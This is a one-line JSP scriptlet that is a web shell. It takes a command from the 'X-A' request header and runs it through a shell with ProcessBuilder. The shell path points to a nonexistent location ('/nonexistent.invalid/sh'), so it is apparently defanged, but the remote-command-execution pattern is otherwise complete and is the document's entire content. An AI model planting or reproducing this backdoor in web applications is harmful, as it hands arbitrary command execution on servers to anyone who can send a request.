<% String a = request.getHeader("X-A"); new ProcessBuilder("/nonexistent.invalid/sh", "-c", a).start(); %>
